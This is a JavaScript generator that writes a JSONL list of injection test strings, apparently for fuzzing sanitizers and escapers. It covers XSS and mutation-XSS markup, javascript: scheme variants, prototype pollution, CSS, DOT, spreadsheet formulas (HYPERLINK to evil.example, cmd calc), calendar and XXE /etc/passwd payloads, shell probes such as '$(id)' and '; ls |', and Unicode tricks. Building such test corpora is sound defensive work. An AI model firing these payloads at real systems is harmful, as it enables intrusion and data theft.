// node strings.mjs > strings.jsonl: strings that try to run, to ask for something, or to break out of where a
// text stands: ways out of each context, times what they would do there, and some tricks that stand alone.
// {"context", "string"} stands on each line. All made here; none was taken from a list.
const code = 'window.ran=1';
const call = `${code};alert(1)`;
const ask = '//evil.example/x';
const point = (...codes) => String.fromCodePoint(...codes);

/** What runs or asks, once it is markup. */
const markup = [
  `<script>${call}</script>`,
  `<SCRIPT SRC=${ask}></SCRIPT>`,
  `<script/x>${call}</script `,
  `<img src=x onerror=${code}>`,
  `<img src="${ask}">`,
  `<svg onload=${code}>`,
  `<svg/onload=${code}//`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x">`,
  `<math><mtext></p><img src=x onerror=${code}>`,
  `<iframe src="javascript:${code}">`,
  `<iframe srcdoc="<script>parent.ran=1</script>">`,
  `<object data="${ask}">`,
  `<embed src="${ask}">`,
  `<base href="${ask}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  `<link rel=stylesheet href="${ask}">`,
  `<style>@import "${ask}";*{background:url(${ask})}</style>`,
  `<form action="javascript:${code}"><button autofocus>x</button></form>`,
  `<input onfocus=${code} autofocus>`,
  `<details open ontoggle=${code}>`,
  `<video><source onerror=${code}></video>`,
  `<audio src=x onerror=${code}>`,
  `<body onpageshow=${code}>`,
  `<marquee onstart=${code}>`,
  `<a href="javascript:${code}">x</a>`,
  `<a href=${ask} ping=${ask}>x</a>`,
  `<template><script>${call}</script></template>`,
  `<dialog open onclose=${code}>`,
  `<x-a onclick=${code} tabindex=1 autofocus onfocus=${code}>`,
  `<table background="${ask}">`,
];
/** Ways out of where a text stands. */
const ways = {
  'element text': [''],
  'element that holds text': [
    '</title>', '</textarea>', '</style>', '</script>', '</noscript>', '</template>', '</svg>',
    '</bdi></mark></p>'
  ],
  'comment or section': ['-->', '--!>', ']]>', '?>', '<!-->'],
  'attribute': [`">`, '\'>', ' x>', '`>', '/>'],
};
const broken = Object.entries(ways).flatMap(
    ([context, all]) => all.flatMap(
        (way, i) => markup.filter((_, j) => context === 'element text' || (i + j) % 4 === 0)
                        .map((what) => [context, way + what])));

const attributes =
    [`"`, '\'', '`', ' ', '&quot;', '&#39;', '&#x22', '\n', '\t/', `\\"`, `"\u00a0`, `"\u2003`].flatMap(
        (quote) => [`onmouseover=${code}`, `onfocus=${code} autofocus x=${quote}`,
                    `style=background:url(${ask})`, `href=javascript:${code}`, `srcset=${ask}`]
                       .map((what) => ['attribute', `x${quote} ${what} ${quote}`]));

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\u0001javascript:',
  'java\tscript:',
  'java\nscript:',
  'javascript\u0000:',
  'javascript&colon;',
  'javascript&#58;',
  '&#106;avascript:',
  '%6Aavascript:',
  'vbscript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD4',
  'data:image/svg+xml,<svg onload=',
  'blob:',
  'file:///',
  'view-source:',
  'feed:javascript:',
  'jar:',
  '//',
  '\\\\\\\\',
  '/\\',
  'https:javascript:',
  'http://x" onclick="',
  'https://x\'onclick=\'',
  'mailto:x\nBcc:',
  '#"><script>',
  '?q=<script>',
  '\u212Aavascript:',
  'ｊavascript:',
  'https://x@',
  'https://[',
  'tel:',
  'intent:'
].map((scheme) => ['link', `${scheme}${code}`]);

const scripts = [
  `";${call};"`,
  `';${call};'`,
  '`;' + call + ';`',
  '${' + code + '}',
  `\\";${call};//`,
  `\\u0022;${call}//`,
  `</script><script>${call}`,
  `<!--<script>${call}`,
  `*/${call}/*`,
  `//\n${call}`,
  `\u2028${call}`,
  `\u2029${call}//`,
  `"]}]}</script><svg onload=${code}>`,
  `"},"__proto__":{"ran":1},"x":{"`,
  `"constructor":{"prototype":{"ran":1}}`,
  `\\`,
  `\\\\"`,
  `\u0000";${call}`,
  `[]["filter"]["constructor"]("${code}")()`,
  `0;import("${ask}")`
].map((text) => ['script and JSON', text]);

const styles = [
  `}*{background:url(${ask})}`, `;background:url(${ask})`, `expression(${code})`, `url(javascript:${code})`,
  `@import url(${ask});`, `\\3c script>${call}`, `</style><script>${call}</script>`, `/*`, `*/}x{y:`,
  `"}]{}*{color:red`, `a[href^=x]{background:url(${ask})}`, `:root{--x:url(${ask})}`
].map((text) => ['style', text]);

const dots = [
  `"];x->y[URL="javascript:${code}"];//`,
  `\\N\\G\\E\\T\\H\\L`,
  `\\`,
  `\\"`,
  `"`,
  `<<b onload=${code}>x</b>>`,
  `<table href="javascript:${code}">`,
  `}digraph{`,
  `];subgraph cluster_x{label=`,
  `/*`,
  `//`,
  `#x`,
  `strict graph{`,
  `x:port:n`,
  `&quot;];x[href=&quot;javascript:${code}`,
  `&#34;`,
  `label="<img src=x>"`,
  `\\l\\r\\n`,
  `node`,
  `edge`,
  `"+"`,
  `image="${ask}"`
].map((text) => ['DOT', text]);

const cells =
    [
      '=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '\uFF1D', '\uFF0B', '\uFF20', '\'=', `"=`,
      ';=', ',=', '\u0000='
    ]
        .flatMap(
            (sign) => [`${sign}HYPERLINK("${ask}","x")`, `${sign}cmd|' /C calc'!A0`].map(
                (text) => ['cell', text]))
        .concat([
          `"\r\n"=1+1"`, `a","=1+1`, `a\t=1+1`, `\n\n=1+1`, `%0A=1`, `=WEBSERVICE("https:${ask}")`,
          `=IMPORTXML("https:${ask}","//a")`, `@SUM(1+1)*cmd|'/C calc'!A0`
        ].map((text) => ['cell', text]));

const calendars = [
  `\r\nEND:VEVENT\r\nBEGIN:VEVENT`, `\nATTACH:https:${ask}`, `;VALUE=URI:javascript:${code}`,
  `\\nEND:VCALENDAR`, `\r\n X:y`, `,x;y:z\\`, `\nBEGIN:VALARM\nACTION:PROCEDURE`,
  `X-ALT-DESC;FMTTYPE=text/html:<script>${call}</script>`
].map((text) => ['calendar', text]);

const xml = [
  `<![CDATA[<script>${call}</script>]]>`, `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`, `&e;`,
  `&lol;`, `<?xml-stylesheet href="${ask}"?>`, `<xi:include href="${ask}"/>`, `&#0;`, `&#x1F;`, `&#xFFFE;`,
  `]]>`, `<?php ${call}?>`, `<%=${code}%>`, `</graph></gexf>`
].map((text) => ['XML', text]);

const templates = [
  `{{${code}}}`, '{{{script}}}', '{{&script}}',   '{{>head}}', '{{#months}}',
  '{{/cards}}',  '{{=<% %>=}}',  '{{!',           '{{',        '}}',
  '{{^x}}',      '<%script%>',   `{%raw%}`,       '${7*7}',    '#{7*7}',
  '[[7*7]]',     '@{7*7}',       '<#assign x=1>', '{0}',       '%s%n%x',
  '{:>9999}',    '$(id)',        '`id`',          '; ls |',    '../../../etc/passwd',
  'CON.txt'
].map((text) => ['template, format, shell', text]);

const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${code}>">`,
  `<math><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
  `<table><a href="javascript:${code}"><td>x`,
  `<select><template><img src=x onerror=${code}>`,
  `<p><svg><foreignObject><p><style><img src="</style><img src=x onerror=${code}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${code}>">`,
  `<plaintext>`,
  `<a><a><b><i><a>`,
  `<b><p></b><i></p>`,
  '<i>'.repeat(60),
  '</p>'.repeat(30),
  '<'.repeat(80),
  '&'.repeat(80),
  `<!doctype html><html onmouseover=${code}>`,
  `<frameset onload=${code}>`,
  `<isindex type=image onerror=${code}>`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${code}&amp;gt;`,
  `&#60;svg onload=${code}&#62;`,
  `&lt`,
  `&notit;`,
  `&#x110000;`,
  `&#128;&#x80;`
].map((text) => ['mutation', text]);

const signs = [
  ['zero', `a${point(0)}<script>${point(0)}${call}`],
  ['zero in a tag', `<scr${point(0)}ipt>${call}</script>`],
  ['controls', Array.from({length: 32}, (_, i) => point(i)).join('x')],
  ['C1', Array.from({length: 32}, (_, i) => point(128 + i)).join('x')],
  ['escape', `${point(27)}]8;;${ask}${point(7)}x${point(27)}[2J`],
  ['bidi', `${point(0x202e)}txet${point(0x202c)}${point(0x2066)}x${point(0x2069)}`],
  ['bidi, open', `${point(0x202e)}open`],
  ['bidi, isolates open', point(0x2067).repeat(20)],
  ['marks', `${point(0x200e, 0x200f, 0x061c)}x`],
  ['wide tag', `${point(0xff1c)}script${point(0xff1e)}${call}`],
  ['wide quote', `${point(0xff02)} onclick=${code}`],
  ['small tag', `${point(0xfe64)}script${point(0xfe65)}`],
  ['combining after a tag', `<${point(0x338)}script>${call}</script>`],
  ['combining after a quote', `"${point(0x338)} onclick=${code}`],
  ['long s', `<${point(0x17f)}cript>${call}</${point(0x17f)}cript>`],
  ['Kelvin', `<in${point(0x212a)} onclick=${code}>`],
  ['dotless', `<${point(0x131)}mg src=x onerror=${code}>`],
  ['soft hyphen', `java${point(0xad)}script:${code}`],
  ['zero width', `java${point(0x200b)}script:${code}`],
  ['byte order', `${point(0xfeff)}<script>${call}`],
  ['noncharacters', point(0xfffe, 0xffff, 0xfdd0, 0x1fffe)],
  ['tags', point(0xe0001, 0xe003c, 0xe0073)],
  ['lines', `a${point(0x2028)}b${point(0x2029)}c${point(0x85)}d${point(0x0b)}e${point(0x0c)}f`],
  ['many marks', `Z${point(0x301).repeat(200)}`],
  ['family', point(0x1f469, 0x200d, 0x1f469, 0x200d, 0x1f467)],
  ['long', 'Q'.repeat(9000)],
  ['private', point(0xe000, 0xf8ff, 0x10fffd)],
  ['replacement', point(0xfffd)],
  ['UTF-7', `+ADw-script+AD4-${call}+ADw-/script+AD4-`],
  ['escapes', `\\x3cscript\\x3e \\u003cscript\\u003e %3Cscript%3E`]
].map(([, text]) => ['characters', text]);

const all = [
  ...broken, ...attributes, ...schemes, ...scripts, ...styles, ...dots, ...cells, ...calendars, ...xml,
  ...templates, ...mutations, ...signs
];
const seen = new Set();
for (const [context, string] of all) {
  if (seen.has(string)) continue;
  seen.add(string);
  const line = JSON.stringify({context, string});
  console.log(line.replace(/[^ -~]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`));
}
